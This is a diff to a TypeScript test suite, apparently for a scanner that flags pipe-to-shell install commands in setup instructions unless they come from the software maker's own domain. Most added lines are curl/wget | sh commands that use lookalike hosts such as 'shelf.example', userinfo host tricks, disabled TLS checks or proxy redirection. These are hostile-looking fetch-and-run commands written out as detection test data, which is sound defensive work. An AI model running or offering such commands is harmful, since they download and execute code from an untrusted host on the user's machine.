@@ -30,7 +30,12 @@ describe("a well-known maker's address excuses its own installer", () => {
 describe("in a block, too, only where it is the maker who answers", () => {
   const block = (line: string): readonly string[] => blocksOf(`## Setup\n\nRun this:\n\n\`\`\`bash\n${line}\n\`\`\``);
 
-  it.each(["curl --proto '=https' --tlsv1.2 -sSf https://sh.rustup.rs | sh", "wget -qO- https://astral.sh/uv/install.sh | sh"])("%s", (line) => {
+  it.each([
+    "curl --proto '=https' --tlsv1.2 -sSf https://sh.rustup.rs | sh",
+    "wget -qO- https://astral.sh/uv/install.sh | sh",
+    "wget https://apt.llvm.org/llvm.sh\nchmod +x llvm.sh\nsudo ./llvm.sh 15",
+    "curl https://tinybird.co | sh",
+  ])("%s", (line) => {
     expect(block(line)).toEqual([]);
   });
 
@@ -39,6 +44,10 @@ describe("in a block, too, only where it is the maker who answers", () => {
     "curl --resolve sh.rustup.rs:443:203.0.113.9 https://sh.rustup.rs | sh",
     "curl --insecure https://sh.rustup.rs | sh",
     "curl -sfL https://get.k3s.io.shelf.example/x | sh",
+    "curl https://tinybird.co.shelf.example | sh",
+    "curl https://tinybird.co/shelf/x | sh",
+    "wget https://apt.llvm.org/shelf/llvm.sh\nchmod +x llvm.sh\nsudo ./llvm.sh 15",
+    "curl -sSfL https://release.solana.com/stable/install | sh",
     "curl -sfL https://get.sdkman.io:443@shelf.example | sh",
     "wget --no-check-certificate -qO- https://astral.sh/uv/install.sh | sh",
     "wget -e https_proxy=shelf.example:80 -qO- https://astral.sh/uv/install.sh | sh",
